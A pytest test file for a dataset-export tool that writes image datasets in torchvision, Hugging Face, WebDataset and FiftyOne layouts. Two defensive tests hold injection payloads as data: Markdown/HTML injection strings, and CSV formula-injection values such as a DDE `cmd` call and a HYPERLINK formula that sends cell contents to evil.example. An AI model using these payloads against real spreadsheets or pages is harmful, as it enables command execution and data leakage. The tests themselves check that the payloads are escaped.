"""`mlc export`: each format loaded back with its own library (torchvision, datasets, webdataset;
fiftyone's importer where it installs), attribution carried, atomic and refusing to overwrite.

The version exported is published here with the dataset module's own writers (manifest, SHA256SUMS,
fingerprint), from real photos, so it can hold what a small curated world rarely does: multi-label
images, a probe split, a photo id with a dot and an owner name with quotes, commas and accents.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import time
from pathlib import Path

import pytest
import yaml

from mlc_pipeline.dataset.build import count_rows, folder_name, write_sums
from mlc_pipeline.dataset.verify import rows_fingerprint
from mlc_pipeline.dataset.export import ExportError, export_version
from mlc_pipeline.images import load_rgb
from mlc_pipeline.manifest import MANIFEST_COLUMNS, read_manifest, read_manifest_frame, write_manifest
from storage_world import mlc, write_config

from helpers import FIXTURES as ALL_FIXTURES  # noqa: E402

FIXTURES = ALL_FIXTURES / "hymenoptera"
OWNER = 'Zoë "Z" Müller, Ltd.'
# (labels, split) per image: 3 ants, 3 bees, 2 both, 2 other, 2 probe
PLAN = [("ants", "train"), ("ants", "valid"), ("ants", "test"), ("bees", "train"), ("bees", "valid"),
        ("bees", "test"), ("ants bees", "train"), ("ants bees", "test"), ("", "train"), ("", "test"),
        ("", "probe"), ("", "probe")]


def publish(root: Path, name: str = "default", version: str = "v1", first: int = 0) -> Path:
    """A published version laid out as dataset.build_dataset writes it (`first`: the fixture photos
    it starts from, and its titles' prefix: another project's version)."""
    folder = root / "datasets" / name / version
    photos = (sorted((FIXTURES / "ants").glob("*.jpg"))[first:first + 6]
              + sorted((FIXTURES / "bees").glob("*.jpg"))[first:first + 6])
    rows = []
    for i, ((labels, split), photo) in enumerate(zip(PLAN, photos)):
        photo_id = f"{1000 + i}.5" if i == 0 else str(1000 + i)       # a dot: WebDataset keys stop at dots
        rel = f"images/{folder_name(labels) if split != 'probe' else 'probe'}/flickr-{photo_id}.jpg"
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        load_rgb(photo, max_side=96).save(folder / rel, "JPEG", quality=90)
        row = {c: "" for c in MANIFEST_COLUMNS}
        row.update(path=rel, labels=labels, split=split, candidate_id=str(i + 1), source="flickr", photo_id=photo_id,
                   url=f"https://www.flickr.com/photos/x/{photo_id}", license_id="4", license="CC BY 2.0",
                   owner=OWNER if i == 1 else f"owner{i}", title=f"{first or ''}photo {i}", purpose="probe" if split == "probe" else "train")
        rows.append(row)
    rows.sort(key=lambda r: r["path"])
    write_manifest(folder / "manifest.csv", rows)
    meta = {"name": name, "version": version, "fingerprint": rows_fingerprint(rows, 96, 90),
            "files_sha256": write_sums(folder, rows), "counts": count_rows(rows), "created_at": time.time(),
            "params": {"build": {"max_side": 96, "jpeg_quality": 90}}}
    (folder / "ATTRIBUTION.md").write_text(f"# Attribution\n\n{OWNER}\n")
    (folder / "README.md").write_text(f"# Dataset {name} {version}\n")
    (folder / "dataset.json").write_text(json.dumps(meta))
    return folder


@pytest.fixture
def version(tmp_path):
    return publish(tmp_path / "data")


def by_photo(rows):
    return {r["photo_id"]: r for r in rows}


def leftovers(folder: Path) -> list[str]:
    return [p.name for p in folder.iterdir() if p.name.startswith(".")]


def test_imagefolder_loads_with_torchvision_and_places_multilabel_images_in_each_folder(version, tmp_path):
    from torchvision.datasets import ImageFolder
    out = tmp_path / "if"
    res = export_version(version, "imagefolder", out)
    assert (res.images, res.files) == (12, 14)                  # the two multi-label images twice
    train = ImageFolder(str(out / "train"))
    assert train.classes == ["ants", "bees", "other"] and len(train) == 5
    test = ImageFolder(str(out / "test"))
    assert sorted(Path(p).name for p, c in test.samples if test.classes[c] == "ants") == \
        ["flickr-1002.jpg", "flickr-1007.jpg"]                   # ants-only and ants+bees
    assert sorted(os.listdir(out / "probe" / "other")) == ["flickr-1010.jpg", "flickr-1011.jpg"]
    assert (out / "train" / "ants" / "flickr-1000_5.jpg").is_file()
    with open(out / "metadata.csv", newline="") as f:
        listed = by_photo(csv.DictReader(f))
    assert len(listed) == 12
    both = listed["1007"]
    assert both["labels"] == "ants bees" and both["file"] == "test/ants/flickr-1007.jpg"
    assert both["also_in"] == "test/bees/flickr-1007.jpg"
    assert listed["1001"]["owner"] == OWNER and listed["1001"]["license"] == "CC BY 2.0"
    assert (out / "ATTRIBUTION.md").read_text().count(OWNER) == 1
    assert json.loads((out / "export.json").read_text())["version"] == "v1"
    assert leftovers(tmp_path) == []


def test_hf_imagefolder_loads_with_datasets(version, tmp_path, monkeypatch):
    datasets = pytest.importorskip("datasets")
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    out = tmp_path / "hf"
    export_version(version, "hf", out)
    ds = datasets.load_dataset(str(out), cache_dir=str(tmp_path / "cache"))
    assert {k: len(v) for k, v in ds.items()} == {"train": 4, "validation": 2, "test": 4, "probe": 2}
    train = by_photo(ds["train"])
    assert sorted(train["1006"]["labels"]) == ["ants", "bees"] and train["1008"]["labels"] == []
    assert train["1000.5"]["license"] == "CC BY 2.0" and train["1000.5"]["image"].size[0] <= 96
    assert by_photo(ds["validation"])["1001"]["owner"] == OWNER
    assert ds["probe"].features["labels"].feature.dtype == "string"   # typed by the card, though all empty


def test_an_hf_export_made_again_loads_as_itself_not_from_the_cache(version, tmp_path, monkeypatch):
    """A user's audit: `datasets` keys its cache on the card's YAML and the folder's name only, so
    the export made again after a takedown (as `mlc remove` says to) loaded the earlier rows, the
    photo taken down included, and another project's export of the same name loaded the first's.
    The card now gives each split's size and the images' bytes; the copy's README says what it lacks."""
    datasets = pytest.importorskip("datasets")
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    cache, out = str(tmp_path / "cache"), tmp_path / "exports" / "default-v1-hf"
    export_version(version, "hf", out)
    assert len(datasets.load_dataset(str(out), cache_dir=cache)["train"]) == 4
    export_version(version, "hf", out, force=True, taken_down={("flickr", "1006")})     # a train image
    again = datasets.load_dataset(str(out), cache_dir=cache)
    assert len(again["train"]) == 3 and "1006" not in by_photo(again["train"])
    assert all(row["image"] is not None for row in again["train"])
    readme = (out / "README.md").read_text()
    assert readme.startswith("---\n") and "> This export holds 11 images: the version's card below counts 12; " \
        "1 photo(s) taken down since the version was built are left out" in readme.split("\n---\n", 1)[1]
    other = publish(tmp_path / "other-project", first=6)    # another project's v1: other photos, same sizes
    elsewhere = tmp_path / "share" / "default-v1-hf"
    export_version(other, "hf", elsewhere)
    theirs = datasets.load_dataset(str(elsewhere), cache_dir=cache)
    assert len(theirs["train"]) == 4 and {r["title"] for r in theirs["train"]} == {"6photo 0", "6photo 3", "6photo 6",
                                                                                    "6photo 8"}
    # The verify18 audit: the same photos, one class named otherwise (ants -> formica): the same sizes
    # and bytes, and the same header but for the rows' identity, which it now carries.
    renamed = tmp_path / "renamed" / "datasets" / "default" / "v1"
    shutil.copytree(version, renamed)
    rows = read_manifest(renamed / "manifest.csv")
    for r in rows:
        r["labels"] = r["labels"].replace("ants", "formica")
    write_manifest(renamed / "manifest.csv", rows)
    meta = json.loads((renamed / "dataset.json").read_text())
    (renamed / "dataset.json").write_text(json.dumps({**meta, "fingerprint": rows_fingerprint(rows, 96, 90)}))
    third = tmp_path / "third" / "default-v1-hf"
    export_version(renamed, "hf", third)
    labels = {label for r in datasets.load_dataset(str(third), cache_dir=cache)["train"] for label in r["labels"]}
    assert labels == {"formica", "bees"}, labels


def test_webdataset_shards_load_with_webdataset(version, tmp_path):
    wds = pytest.importorskip("webdataset")
    out = tmp_path / "wds"
    export_version(version, "webdataset", out, shard_size=3)
    index = json.loads((out / "shards.json").read_text())
    assert [s["samples"] for s in index["train"]] == [3, 1]
    urls = [str(out / s["file"]) for s in index["train"]]
    samples = list(wds.WebDataset(urls, shardshuffle=False).decode("pil"))
    assert len(samples) == 4
    meta = {s["__key__"]: s["json"] for s in samples}
    assert "flickr-1000_5" in meta and meta["flickr-1000_5"]["photo_id"] == "1000.5"
    assert sorted(meta["flickr-1006"]["labels"]) == ["ants", "bees"] and meta["flickr-1008"]["labels"] == []
    assert all(s["jpg"].size[0] <= 96 and s["json"]["split"] == "train" for s in samples)
    probe = list(wds.WebDataset([str(out / s["file"]) for s in index["probe"]], shardshuffle=False))
    assert len(probe) == 2
    # the same version exports to the same bytes (tar mtimes are the version's, not the clock's)
    again = tmp_path / "wds2"
    export_version(version, "webdataset", again, shard_size=3)
    assert (again / "train-000000.tar").read_bytes() == (out / "train-000000.tar").read_bytes()


def test_fiftyone_layout_follows_the_documented_format(version, tmp_path):
    """FiftyOneImageClassificationDataset: data/<uuid>.<ext> and labels.json {"classes", "labels":
    {uuid: target}}, a list target being multi-label (fiftyone's docs and its importer's parser)."""
    out = tmp_path / "fo"
    export_version(version, "fiftyone", out)
    labels = json.loads((out / "labels.json").read_text())
    assert labels["classes"] == ["ants", "bees"]
    assert set(labels["labels"]) == {p.stem for p in (out / "data").iterdir()} and len(labels["labels"]) == 12
    assert sorted(labels["labels"]["flickr-1007"]) == ["ants", "bees"] and labels["labels"]["flickr-1010"] == []
    samples = json.loads((out / "samples.json").read_text())
    assert samples["flickr-1010"]["split"] == "probe" and samples["flickr-1001"]["owner"] == OWNER
    assert samples["flickr-1000_5"]["license"] == "CC BY 2.0" and samples["flickr-1000_5"]["photo_id"] == "1000.5"


def test_fiftyone_importer_reads_the_layout(version, tmp_path):
    """fiftyone's own importer (no database needed); runs where fiftyone is installed."""
    pytest.importorskip("fiftyone")
    from fiftyone.utils.data.importers import FiftyOneImageClassificationDatasetImporter
    import fiftyone.core.labels as fol
    out = tmp_path / "fo"
    export_version(version, "fiftyone", out)
    importer = FiftyOneImageClassificationDatasetImporter(dataset_dir=str(out))
    with importer:
        got = {Path(path).stem: label for path, _, label in importer}
    assert len(got) == 12 and all(isinstance(v, fol.Classifications) for v in got.values())
    assert sorted(c.label for c in got["flickr-1007"].classifications) == ["ants", "bees"]
    assert got["flickr-1010"].classifications == []


def test_existing_output_needs_force_and_force_replaces_only_exports(version, tmp_path):
    out = tmp_path / "out"
    export_version(version, "webdataset", out)
    with pytest.raises(ExportError, match="already exists; pass --force"):
        export_version(version, "imagefolder", out)
    assert (out / "train-000000.tar").is_file()                 # untouched
    export_version(version, "imagefolder", out, force=True)
    assert not (out / "train-000000.tar").exists() and (out / "train" / "ants").is_dir()
    precious = tmp_path / "precious"
    precious.mkdir()
    (precious / "thesis.tex").write_text("years of work")
    with pytest.raises(ExportError, match="not an earlier export"):
        export_version(version, "hf", precious, force=True)
    assert (precious / "thesis.tex").read_text() == "years of work"
    with pytest.raises(ExportError, match="overlaps the dataset version"):
        export_version(version, "hf", version / "exported", force=True)
    with pytest.raises(ExportError, match="overlaps"):
        export_version(version, "hf", version.parent.parent, force=True)
    with pytest.raises(ExportError, match="where the versions are published"):
        export_version(version, "hf", version.parent / "v2")
    assert leftovers(tmp_path) == []


def test_a_killed_exports_leftovers_are_removed_and_a_live_ones_kept(version, tmp_path):
    dead = tmp_path / ".out.export-999999999-abcd1234"          # no such pid
    live = tmp_path / f".out.export-{os.getpid()}-abcd1234"
    for folder in (dead, live):
        (folder / "train").mkdir(parents=True)
    export_version(version, "imagefolder", tmp_path / "out")
    assert not dead.exists() and live.is_dir()


def test_cli_exports_latest_by_config_and_reports_mistakes_in_one_line(version, tmp_path):
    cfg = write_config(tmp_path / "cfg.yaml", tmp_path / "data", tmp_path / "world")
    r = mlc("export", "latest", "-c", str(cfg), "--format", "hf")
    assert r.returncode == 0, r.stderr
    out = tmp_path / "data" / "exports" / "default-v1-hf"
    assert out.is_dir() and "12 images" in r.stdout
    assert json.loads((out / "export.json").read_text())["source"] == str((tmp_path / "data" / "datasets" / "default"
                                                                           / "v1").resolve())    # a local root's folder
    r = mlc("export", "latest", "-c", str(cfg), "--format", "hf")
    assert r.returncode == 2 and r.stderr.strip().count("\n") == 0 and "--force" in r.stderr
    r = mlc("export", "v7", "-c", str(cfg), "--format", "hf")
    assert r.returncode == 2 and "no dataset version 'v7'" in r.stderr and "versions: v1" in r.stderr
    r = mlc("export", str(tmp_path / "nowhere"), "--format", "webdataset")
    assert r.returncode == 2 and "not a dataset version folder" in r.stderr and "Traceback" not in r.stderr
    # through the `latest` link: named after the version it points at (it said "latest": a user's audit)
    (version.parent / "latest").symlink_to("v1", target_is_directory=True)
    r = mlc("export", str(version.parent / "latest"), "--format", "webdataset", "--out", str(tmp_path / "w"))
    assert r.returncode == 0 and r.stdout.startswith("exported default v1 as webdataset"), r.stdout + r.stderr
    assert "an imagefolder export has no shards" in mlc("export", str(version), "--format", "imagefolder",
                                                        "--shard-size", "3").stderr


def test_a_damaged_version_is_not_exported(version, tmp_path):
    victim = next((version / "images" / "ants").iterdir())
    victim.write_bytes(victim.read_bytes()[:-10])
    r = mlc("export", str(version), "--format", "imagefolder", "--out", str(tmp_path / "out"))
    assert r.returncode == 3 and "damaged" in r.stderr and "Traceback" not in r.stderr
    assert not (tmp_path / "out").exists() and leftovers(tmp_path) == []


def test_shard_size_is_refused_for_a_format_without_shards(version, tmp_path):
    with pytest.raises(ExportError, match="--shard-size is for --format webdataset"):
        export_version(version, "imagefolder", tmp_path / "out", shard_size=10)
    assert not (tmp_path / "out").exists()
    r = mlc("export", str(version), "--format", "hf", "--shard-size", "5", "--out", str(tmp_path / "hf"))
    assert r.returncode == 2 and "--shard-size is for --format webdataset" in r.stderr


def test_attribution_names_the_images_as_the_export_does_and_a_folder_export_says_takedowns_were_not_checked(
        version, tmp_path):
    out = tmp_path / "wds"
    r = mlc("export", str(version), "--format", "webdataset", "--out", str(out))
    assert r.returncode == 0, r.stderr
    assert "takedowns not checked" in r.stderr            # a version folder alone: no catalog to ask
    attribution = (out / "ATTRIBUTION.md").read_text()
    assert "flickr-1000_5 |" in attribution and "images/" not in attribution     # the key in the shards, not the path
    assert json.loads((out / "export.json").read_text())["takedowns_checked"] is False


def test_an_export_counts_and_names_the_licences_of_its_own_rows(version, tmp_path):
    """The export26 audit: export.json's `licenses` and the hf card's list of licences were copied from
    the version's dataset.json, so after a takedown they counted the images left out, and named a
    licence only they carried."""
    rows = read_manifest(version / "manifest.csv")
    for r in rows:
        if r["photo_id"] == "1006":         # the only image under a non-commercial licence
            r["license_id"], r["license"] = "2", "CC BY-NC 2.0"
    write_manifest(version / "manifest.csv", rows)
    meta = json.loads((version / "dataset.json").read_text())
    (version / "dataset.json").write_text(json.dumps({**meta, "fingerprint": rows_fingerprint(rows, 96, 90),
                                                      "counts": count_rows(rows)}))
    out = tmp_path / "hf"
    export_version(version, "hf", out, taken_down={("flickr", "1006")})
    assert json.loads((out / "export.json").read_text())["licenses"] == {"CC BY 2.0": 11}
    licences = next(line for line in (out / "README.md").read_text().splitlines() if line.startswith("Licences differ"))
    assert licences.endswith("ATTRIBUTION.md (CC BY 2.0).") and "NC" not in licences, licences
    export_version(version, "webdataset", tmp_path / "wds")          # nothing left out: the version's counts
    assert json.loads((tmp_path / "wds" / "export.json").read_text())["licenses"] == {"CC BY 2.0": 11,
                                                                                    "CC BY-NC 2.0": 1}


def test_datasets_reads_the_hf_cards_split_sizes_without_a_warning(version, tmp_path, monkeypatch):
    """The export26 audit: every load warned `Ignoring part of dataset_info from the dataset card: The
    'splits' field in YAML is malformed or missing the name/num_examples/num_bytes fields` (datasets
    5.x), and ignored the split sizes. Each split now has its images' bytes too, and `datasets` checks
    the rows it reads against the sizes."""
    import logging
    datasets = pytest.importorskip("datasets")
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    out = tmp_path / "hf"
    export_version(version, "hf", out)
    said: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: said.append(record.getMessage())
    logger = logging.getLogger("datasets")          # the library's root logger: it does not propagate to ours
    logger.addHandler(handler)
    try:
        splits = datasets.load_dataset_builder(str(out), cache_dir=str(tmp_path / "cache")).info.splits
        ds = datasets.load_dataset(str(out), cache_dir=str(tmp_path / "cache"))
    finally:
        logger.removeHandler(handler)
    assert not [m for m in said if "dataset_info" in m], said
    assert {name: s.num_examples for name, s in splits.items()} == {k: len(v) for k, v in ds.items()} == \
        {"train": 4, "validation": 2, "test": 4, "probe": 2}
    assert splits["probe"].num_bytes == sum(p.stat().st_size for p in (out / "probe").glob("*.jpg"))


def test_every_imagefolder_split_loads_with_the_same_class_indices_as_docs_say(version, tmp_path):
    """The export26 audit: `ImageFolder("out/probe")` numbered only the folders probe has ({'other': 0}),
    while 0 is `ants` in train; a split lacking a class shifts every class after it. export.json names
    the label folders of all the splits, and docs/export.md loads each split with them (this code)."""
    from torchvision.datasets import ImageFolder
    out = tmp_path / "if"
    export_version(version, "imagefolder", out)
    assert ImageFolder(str(out / "probe")).class_to_idx == {"other": 0}           # the trap: not train's
    # --- as docs/export.md shows it
    classes = json.loads((out / "export.json").read_text())["class_folders"]

    class SplitFolder(ImageFolder):
        def find_classes(self, directory):
            return classes, {c: i for i, c in enumerate(classes)}

    splits = {s: SplitFolder(str(out / s), allow_empty=True) for s in ("train", "valid", "test", "probe")}
    # ---
    assert classes == ImageFolder(str(out / "train")).classes == ["ants", "bees", "other"]
    assert {s: d.class_to_idx for s, d in splits.items()} == {s: {"ants": 0, "bees": 1, "other": 2} for s in splits}
    assert {target for _, target in splits["probe"].samples} == {2}
    with open(out / "metadata.csv", newline="") as f:
        listed = {row["file"]: row["labels"] or "other" for row in csv.DictReader(f)}
    for name, data in splits.items():          # each file's index names a label metadata.csv gives it
        for path, target in data.samples:
            rel = Path(path).relative_to(out).as_posix()
            first = next((k for k in listed if Path(k).name == Path(rel).name), None)
            assert classes[target] in listed[first].split(), (rel, classes[target], listed[first])


def rewrite_rows(version: Path, change: dict[str, dict]) -> list[dict]:
    """The version's manifest with the rows of the photo ids in `change` updated (text columns only:
    the fingerprint and SHA256SUMS still verify)."""
    rows = read_manifest(version / "manifest.csv")
    for r in rows:
        r.update(change.get(r["photo_id"], {}))
    write_manifest(version / "manifest.csv", rows)
    return rows


def test_the_hf_cards_header_and_licence_line_carry_outside_text_as_text(version, tmp_path, monkeypatch):
    """The security26 audit: the hf README's first line joined the licence names as Markdown (a
    newline and `<!--` in one hid the whole card below it), and its YAML header was formatted by hand.
    The header is YAML's own (safe_dump), the line text."""
    from markdown_it import MarkdownIt
    rewrite_rows(version, {"1000.5": {"license": "CC BY\n<!-- the card below is hidden"},
                           "1003": {"license": "x\n## Heading injected [a](http://evil.example)"}})
    meta = json.loads((version / "dataset.json").read_text())
    name = 'd\n---\nlicense: mit "😀"'            # dataset.json's name is text to the header
    (version / "dataset.json").write_text(json.dumps({**meta, "name": name}))
    out = tmp_path / "hf"
    export_version(version, "hf", out)
    readme = (out / "README.md").read_text()
    header, body = readme.removeprefix("---\n").split("\n---\n", 1)
    parsed = yaml.safe_load(header)
    assert parsed["license"] == "other" and parsed["configs"][0]["description"].startswith(f"mlc-pipeline {name} v1")
    assert [s["split"] for s in parsed["configs"][0]["data_files"]] == ["train", "validation", "test", "probe"]
    tokens = [t for token in MarkdownIt("commonmark").parse(body) for t in [token, *(token.children or [])]]
    assert [t.type for t in tokens if t.type in ("heading_open", "html_block", "html_inline", "link_open")] == \
        ["heading_open"], body                   # the version's card's title, not hidden, and no other
    assert "CC BY &lt;!-- the card below is hidden; CC BY 2.0; x ## Heading injected \\[a\\](http://evil.example)" in body
    datasets = pytest.importorskip("datasets")
    monkeypatch.setenv("HF_DATASETS_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    train = by_photo(datasets.load_dataset(str(out), cache_dir=str(tmp_path / "cache"))["train"])
    assert train["1000.5"]["license"] == "CC BY\n<!-- the card below is hidden"      # the data as it was


FORMULAS = {"title": '=HYPERLINK("http://evil.example/"&A1,"x")', "owner": "+SUM(1+1)*cmd|' /C calc'!A0",
            "license": "=cmd|' /C calc'!A0", "date_taken": "@SUM(1)"}


def test_text_a_spreadsheet_would_take_for_a_formula_is_written_as_text_and_read_back_as_it_was(version, tmp_path):
    """The security26 audit: titles, owners and licence names such as `=cmd|' /C calc'!A0` went into
    manifest.csv and an imagefolder export's metadata.csv as they came: live formulas in Excel or
    LibreOffice. A text cell starting with = + - @, a tab or a CR gets a `'` before it (OWASP); the
    readers of the manifest take it off again, and the data columns are never touched."""
    rows = rewrite_rows(version, {"1000.5": FORMULAS, "1001": {"title": "-1", "owner": "'=quoted", "license": "\tx"},
                                  "1002": {"title": "'tis", "owner": "\r=y", "license": "''+z"}})
    with open(version / "manifest.csv", newline="") as f:
        written = by_photo(csv.DictReader(f))
    assert {c: written["1000.5"][c] for c in FORMULAS} == {c: "'" + v for c, v in FORMULAS.items()}
    assert [written["1001"][c] for c in ("title", "owner", "license")] == ["'-1", "''=quoted", "'\tx"]
    assert [written["1002"][c] for c in ("title", "owner", "license")] == ["'tis", "'\r=y", "'''+z"]
    data = [c for c in MANIFEST_COLUMNS if c not in FORMULAS]          # FORMULAS' four text columns; source_file is '' here
    assert [{c: w[c] for c in data} for w in written.values()] == [{c: r[c] for c in data} for r in rows]
    assert read_manifest(version / "manifest.csv") == rows                      # as the source gave it
    assert read_manifest_frame(version / "manifest.csv")[MANIFEST_COLUMNS].to_dict("records") == rows
    out = tmp_path / "if"
    export_version(version, "imagefolder", out)                                  # verifies the version first
    with open(out / "metadata.csv", newline="") as f:
        listed = by_photo(csv.DictReader(f))
    assert {c: listed["1000.5"][c] for c in FORMULAS} == {c: "'" + v for c, v in FORMULAS.items()}   # once
    assert listed["1002"]["title"] == "'tis" and listed["1001"]["owner"] == "''=quoted"
    assert [{c: listed[p][c] for c in data if c != "path"} for p in written] == \
        [{c: w[c] for c in data if c != "path"} for w in written.values()]
    assert not [(k, v) for row in listed.values() for k, v in row.items() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    export_version(version, "webdataset", tmp_path / "wds")             # the attribution shows the text as it was
    assert '| =HYPERLINK("http://evil.example/"&amp;A1,"x") |' in (tmp_path / "wds" / "ATTRIBUTION.md").read_text()


@pytest.mark.parametrize("when", ["mid-copy", "before-rename"])
def test_a_version_withdrawn_while_it_is_exported_is_one_line_and_nothing_is_written(version, tmp_path, monkeypatch,
                                                                                      when):
    """`mlc withdraw` takes no lock an export holds, and always wins (the concurrency28 audit): a real
    withdrawal of the version run after the export's first file is copied (then an 18-line
    FileNotFoundError traceback), or once every file is written, before the export is put in place
    (then an export of a version already withdrawn, which the withdrawal could not list). Both: one
    line saying so, and nothing written."""
    from mlc_pipeline.dataset import export as export_module
    from mlc_pipeline.withdrawal import withdraw_folder
    withdraw = lambda: withdraw_folder(version.parent, version.name, "audit")
    if when == "mid-copy":
        copy = shutil.copyfile

        def copy_then_withdraw(src, dst, *args, **kwargs):
            copied = copy(src, dst, *args, **kwargs)
            if version.is_dir():
                withdraw()
            return copied
        monkeypatch.setattr(export_module.shutil, "copyfile", copy_then_withdraw)
    else:                           # the export's last check of --out comes after every file is written
        check, calls = export_module.check_destination, []
        monkeypatch.setattr(export_module, "check_destination", lambda *args: (
            calls.append(1), len(calls) == 2 and withdraw(), check(*args)))
    out = tmp_path / "out"
    with pytest.raises(ExportError, match=r"^default v1 was withdrawn \(audit\) while it was being exported; "
                                          r"nothing was written to .*out$"):
        export_version(version, "imagefolder", out)
    assert not out.exists() and leftovers(tmp_path) == [] and not version.exists()
